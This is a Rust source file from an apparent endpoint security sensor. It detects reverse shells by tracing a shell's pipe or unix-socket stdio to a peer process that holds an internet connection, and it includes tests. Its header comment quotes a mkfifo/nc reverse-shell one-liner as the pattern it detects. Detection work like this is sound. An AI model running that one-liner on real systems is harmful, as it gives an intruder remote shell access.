//! The stdio-peer check: a shell or interpreter whose stdio is a pipe or a unix socket may be
//! talking to the network through another process (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT >
//! /tmp/f`; socat's `EXEC:` child on a socket pair). For such an exec the process holding the
//! other end is looked for, and if it holds a connected internet socket the exec event names it
//! (`pipe_peer`, `pipe_peer_socket`).
//!
//! Pipes: the shell's siblings (its parent's other children, from /proc/PPID/task/*/children)
//! holding one of its stdio pipe inodes, and on the last try every process under /proc; never
//! the shell's parent (a parent reading its child's output through a pipe is popen(), the
//! everyday case). Unix sockets: the parent, when it does not hold the same socket itself (so
//! it made a new socket pair for the child rather than passing on its own stdio).
//!
//! A shell whose parent (not a shell) holds the other end of each of its pipes is popen() and
//! needs no more tries. Otherwise the peer may not exist yet when the shell execs (nc is forked after sh, and connects after
//! its own exec), so the event is held back and the check repeated at the delays in `TRIES`.
//! Events after it wait behind it, so the agent's events still go out in order (the store and
//! the tests' barriers rely on that): a shell with pipe stdio delays the events after it by at
//! most the last delay. Bounds: at most `WAITING_MAX` shells waiting (past it a shell goes
//! unchecked) and `HELD_MAX` events held; at most `FULL_SCANS_PER_SECOND` full /proc scans
//! (over budget, the scan is skipped), each stopping after `SCAN_BUDGET`.

use super::stdio::{fill_socket, is_inet_peer, is_shell_or_interpreter};
use crate::sys::procfs::Proc;
use cordon_proto::stdio::Kind;
use cordon_proto::{ProcessEvent, ProcessRef, Stdio, event, process_event};
use std::collections::VecDeque;
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// When the check runs, after the exec was seen.
const TRIES: [Duration; 3] = [
    Duration::ZERO,
    Duration::from_millis(100),
    Duration::from_millis(300),
];
const WAITING_MAX: usize = 64;
const HELD_MAX: usize = 8192;
const FULL_SCANS_PER_SECOND: u32 = 4;
const SCAN_BUDGET: Duration = Duration::from_millis(20);

struct Pending {
    event: ProcessEvent,
    seen: Instant,
    /// Tries done.
    tries: usize,
}

enum Held {
    Ready(Box<event::Body>),
    Waiting(Box<Pending>),
}

pub struct Watch {
    proc: Proc,
    held: VecDeque<Held>,
    /// Start of the current second and the full scans made in it.
    window: (Instant, u32),
}

impl Watch {
    pub fn new(proc: Proc) -> Self {
        Self {
            proc,
            held: VecDeque::new(),
            window: (Instant::now(), 0),
        }
    }

    /// Whether [`Self::offer`] would hold this event back for a peer check.
    pub fn would_hold(&self, body: &event::Body) -> bool {
        matches!(body, event::Body::Process(p) if candidate(p)) && self.waiting() < WAITING_MAX
    }

    /// Takes an event; returns those that can go now, in order (the order they came in).
    pub fn offer(&mut self, body: Box<event::Body>, now: Instant) -> Vec<event::Body> {
        let hold = self.would_hold(&body);
        let held = match *body {
            event::Body::Process(p) if hold => {
                let mut p = Box::new(Pending {
                    event: p,
                    seen: now,
                    tries: 0,
                });
                if self.try_one(&mut p, now) {
                    Held::Ready(Box::new(event::Body::Process(p.event)))
                } else {
                    Held::Waiting(p)
                }
            }
            body => Held::Ready(Box::new(body)),
        };
        self.held.push_back(held);
        if self.held.len() > HELD_MAX {
            // Too much held back: the oldest shell goes as it is.
            self.finish_first();
        }
        self.release()
    }

    fn waiting(&self) -> usize {
        self.held
            .iter()
            .filter(|h| matches!(h, Held::Waiting(_)))
            .count()
    }

    /// When the next waiting shell is due for a try.
    pub fn next_due(&self) -> Option<Instant> {
        self.held
            .iter()
            .filter_map(|h| match h {
                Held::Waiting(p) => Some(p.seen + TRIES[p.tries]),
                Held::Ready(_) => None,
            })
            .min()
    }

    /// Runs the tries that are due; returns the events that can go now, in order.
    pub fn due(&mut self, now: Instant) -> Vec<event::Body> {
        let mut held = std::mem::take(&mut self.held);
        for h in held.iter_mut() {
            if let Held::Waiting(p) = h
                && now >= p.seen + TRIES[p.tries]
                && self.try_one(p, now)
            {
                *h = Held::Ready(Box::new(event::Body::Process(std::mem::take(&mut p.event))));
            }
        }
        self.held = held;
        self.release()
    }

    /// Every held event, unchecked further (the sensor is stopping).
    pub fn drain(&mut self) -> Vec<event::Body> {
        while self.finish_first() {}
        self.release()
    }

    /// The first waiting shell goes unchecked further; false if none waits.
    fn finish_first(&mut self) -> bool {
        let Some(h) = self.held.iter_mut().find(|h| matches!(h, Held::Waiting(_))) else {
            return false;
        };
        if let Held::Waiting(p) = h {
            *h = Held::Ready(Box::new(event::Body::Process(std::mem::take(&mut p.event))));
        }
        true
    }

    /// The ready events at the front.
    fn release(&mut self) -> Vec<event::Body> {
        let mut out = Vec::new();
        while let Some(Held::Ready(_)) = self.held.front() {
            if let Some(Held::Ready(body)) = self.held.pop_front() {
                out.push(*body);
            }
        }
        out
    }

    /// One try; true when the event is done with (found, or out of tries, or popen()).
    fn try_one(&mut self, p: &mut Pending, now: Instant) -> bool {
        p.tries += 1;
        let last = p.tries >= TRIES.len();
        let full = last && self.allow_full_scan(now);
        if let Some((peer, socket)) = self.find(&p.event, full) {
            p.event.pipe_peer = Some(peer);
            p.event.pipe_peer_socket = Some(socket);
            return true;
        }
        last || (p.tries == 1 && self.popen(&p.event))
    }

    /// Whether the shell's parent, not itself a shell, holds the other end of every stdio pipe:
    /// popen(), a program capturing a command's output, which needs no further tries. A shell
    /// parent is not trusted so: building a pipeline it holds each pipe until it has forked the
    /// next member (nc in the mkfifo shell).
    fn popen(&self, e: &ProcessEvent) -> bool {
        if e.parent_exe.is_empty() || is_shell_or_interpreter(&e.parent_exe) {
            return false;
        }
        let streams: Vec<&Stdio> = [&e.stdin, &e.stdout, &e.stderr]
            .into_iter()
            .flatten()
            .collect();
        // A socket pair is for the parent check in `find`, which may need more tries.
        if streams.iter().any(|s| s.kind == Kind::Socket as i32) {
            return false;
        }
        let links = self.links(e.ppid);
        let pipes: Vec<String> = streams
            .iter()
            .filter(|s| s.kind == Kind::Pipe as i32)
            .map(|s| format!("pipe:[{}]", s.inode))
            .collect();
        !pipes.is_empty() && pipes.iter().all(|p| links.contains(p))
    }

    fn allow_full_scan(&mut self, now: Instant) -> bool {
        if now.duration_since(self.window.0) >= Duration::from_secs(1) {
            self.window = (now, 0);
        }
        self.window.1 += 1;
        self.window.1 <= FULL_SCANS_PER_SECOND
    }

    /// The peer of `e`'s stdio: the parent for a socket pair; a sibling, or with `full` any
    /// process, for a pipe.
    fn find(&self, e: &ProcessEvent, full: bool) -> Option<(ProcessRef, Stdio)> {
        let streams = [&e.stdin, &e.stdout, &e.stderr];
        let of_kind = |k: Kind| -> Vec<u64> {
            streams
                .iter()
                .filter_map(|s| s.as_ref().filter(|s| s.kind == k as i32).map(|s| s.inode))
                .collect()
        };
        let unix = of_kind(Kind::Socket);
        if !unix.is_empty() && e.ppid > 1 {
            let links = self.links(e.ppid);
            let inherited = links
                .iter()
                .any(|l| unix.iter().any(|u| *l == format!("socket:[{u}]")));
            if !inherited && let Some(found) = self.inet_peer(e.ppid, &links) {
                return Some(found);
            }
        }
        let pipes: Vec<String> = of_kind(Kind::Pipe)
            .into_iter()
            .map(|i| format!("pipe:[{i}]"))
            .collect();
        if pipes.is_empty() {
            return None;
        }
        let candidates = if full {
            self.proc.pids()
        } else {
            self.children(e.ppid)
        };
        let deadline = Instant::now() + SCAN_BUDGET;
        for pid in candidates {
            if Instant::now() > deadline {
                break;
            }
            if pid == e.pid || pid == e.ppid {
                continue;
            }
            let links = self.links(pid);
            if links.iter().any(|l| pipes.contains(l))
                && let Some(found) = self.inet_peer(pid, &links)
            {
                return Some(found);
            }
        }
        None
    }

    /// The children of `pid`, forked from any of its threads.
    fn children(&self, pid: u32) -> Vec<u32> {
        let tasks = self.proc.root().join(format!("{pid}/task"));
        let Ok(tasks) = std::fs::read_dir(tasks) else {
            return Vec::new();
        };
        tasks
            .flatten()
            .filter_map(|t| std::fs::read_to_string(t.path().join("children")).ok())
            .flat_map(|c| {
                c.split_whitespace()
                    .filter_map(|p| p.parse().ok())
                    .collect::<Vec<u32>>()
            })
            .collect()
    }

    /// The fd links of `pid` ("pipe:[12]", "socket:[34]", "/dev/null").
    fn links(&self, pid: u32) -> Vec<String> {
        let dir: PathBuf = self.proc.root().join(pid.to_string()).join("fd");
        let Ok(fds) = std::fs::read_dir(dir) else {
            return Vec::new();
        };
        fds.flatten()
            .filter_map(|fd| std::fs::read_link(fd.path()).ok())
            .map(|l| l.to_string_lossy().into_owned())
            .collect()
    }

    /// The first connected internet socket among `links` of `pid`, with the process.
    fn inet_peer(&self, pid: u32, links: &[String]) -> Option<(ProcessRef, Stdio)> {
        let socket = links.iter().find_map(|l| {
            let inode = l
                .strip_prefix("socket:[")?
                .strip_suffix(']')?
                .parse()
                .ok()?;
            let mut s = Stdio {
                kind: Kind::Socket as i32,
                inode,
                ..Default::default()
            };
            fill_socket(&self.proc, pid, &mut s);
            is_inet_peer(&s).then_some(s)
        })?;
        let stat = self.proc.stat(pid);
        let (argv, _) = self.proc.cmdline(pid, 4096).unwrap_or_default();
        let process = ProcessRef {
            pid,
            start_ticks: stat.map(|s| s.start_ticks).unwrap_or_default(),
            exe: self.proc.link(pid, "exe").unwrap_or_default(),
            argv: cordon_proto::secrets::redact_argv(argv),
            uid: self.proc.ids(pid).map(|i| i.0).unwrap_or_default(),
            ..Default::default()
        };
        Some((process, socket))
    }
}

/// A shell or interpreter exec with a pipe or unix socket for stdio and no internet socket
/// seen already.
fn candidate(e: &ProcessEvent) -> bool {
    if e.kind != process_event::Kind::Exec as i32 || !is_shell_or_interpreter(&e.exe) {
        return false;
    }
    let streams = [&e.stdin, &e.stdout, &e.stderr];
    let direct =
        streams.iter().flat_map(|s| s.as_ref()).any(is_inet_peer) || e.parent_socket.is_some();
    !direct
        && streams.iter().flat_map(|s| s.as_ref()).any(|s| {
            s.kind == Kind::Pipe as i32 || (s.kind == Kind::Socket as i32 && s.family == "unix")
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::{Command, Stdio as Io};

    /// A shell writing into a pipe read by a process holding a connected socket is linked to
    /// it; one whose pipe leads nowhere near a socket is sent after its tries, unlinked.
    #[test]
    fn a_pipe_to_a_process_with_a_socket_is_found() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        // The reader: python holding a connected socket, reading the pipe as its stdin.
        let Ok(mut reader) = Command::new("python3")
            .args([
                "-c",
                &format!(
                    "import socket,sys;s=socket.create_connection(('127.0.0.1',{}));print('ready',flush=True);sys.stdin.read()",
                    addr.port()
                ),
            ])
            .stdin(Io::piped())
            .stdout(Io::piped())
            .spawn()
        else {
            eprintln!("SKIP: python3 missing");
            return;
        };
        let mut line = String::new();
        std::io::BufRead::read_line(
            &mut std::io::BufReader::new(reader.stdout.take().unwrap()),
            &mut line,
        )
        .unwrap();
        // Not accepted: this process holds only the listening socket, which has no peer.
        let stdin = reader.stdin.take().unwrap();
        use std::os::fd::AsRawFd;
        use std::os::unix::fs::MetadataExt;
        let ino = std::fs::metadata(format!("/proc/self/fd/{}", stdin.as_raw_fd()))
            .unwrap()
            .ino();
        let pipe = Stdio {
            kind: Kind::Pipe as i32,
            inode: ino,
            ..Default::default()
        };
        let event = ProcessEvent {
            kind: process_event::Kind::Exec as i32,
            // A shell whose parent is this test process, which holds the pipe's other end too
            // (and is skipped as the parent).
            pid: 1,
            ppid: std::process::id(),
            exe: "/bin/sh".into(),
            stdout: Some(pipe.clone()),
            ..Default::default()
        };
        let mut watch = Watch::new(Proc::default());
        let out = watch.offer(
            Box::new(event::Body::Process(event.clone())),
            Instant::now(),
        );
        let [event::Body::Process(found)] = &out[..] else {
            panic!("found at once, by looking at the parent's other children: {out:?}");
        };
        assert_eq!(found.pipe_peer.as_ref().unwrap().pid, reader.id());
        assert_eq!(
            found.pipe_peer_socket.as_ref().unwrap().peer,
            addr.to_string()
        );

        // A shell whose pipe leads nowhere near a socket waits its tries, and what comes
        // after it waits behind it.
        let lone = ProcessEvent {
            stdout: Some(Stdio {
                inode: u64::MAX,
                ..pipe
            }),
            ..event.clone()
        };
        let now = Instant::now();
        assert!(
            watch
                .offer(Box::new(event::Body::Process(lone)), now)
                .is_empty()
        );
        let later = Box::new(event::Body::Notice(Default::default()));
        assert!(watch.offer(later, now).is_empty(), "held behind the shell");
        let mut out = Vec::new();
        for t in TRIES {
            out.extend(watch.due(now + t));
        }
        assert!(
            matches!(&out[..], [event::Body::Process(p), event::Body::Notice(_)] if p.pipe_peer.is_none()),
            "{out:?}"
        );
        assert!(watch.next_due().is_none());

        // popen(): the parent, not a shell, holds the other end of the pipe. Done at once.
        let (r, _w) = std::io::pipe().unwrap();
        let ino = rustix::fs::fstat(&r).unwrap().st_ino;
        let popen = ProcessEvent {
            stdout: Some(Stdio {
                kind: Kind::Pipe as i32,
                inode: ino,
                ..Default::default()
            }),
            parent_exe: "/usr/bin/cordon-agent-test".into(),
            ..event
        };
        let out = watch.offer(Box::new(event::Body::Process(popen)), Instant::now());
        assert!(
            matches!(&out[..], [event::Body::Process(p)] if p.pipe_peer.is_none()),
            "{out:?}"
        );
        drop(stdin);
        reader.wait().unwrap();
    }

    #[test]
    fn only_shells_with_pipes_or_unix_sockets_wait() {
        let pipe = Some(Stdio {
            kind: Kind::Pipe as i32,
            ..Default::default()
        });
        let shell = ProcessEvent {
            kind: process_event::Kind::Exec as i32,
            exe: "/usr/bin/bash".into(),
            stdin: pipe.clone(),
            ..Default::default()
        };
        assert!(candidate(&shell));
        assert!(!candidate(&ProcessEvent {
            exe: "/usr/bin/cat".into(),
            ..shell.clone()
        }));
        assert!(!candidate(&ProcessEvent {
            stdin: Some(Stdio {
                kind: Kind::Tty as i32,
                ..Default::default()
            }),
            ..shell.clone()
        }));
    }
}
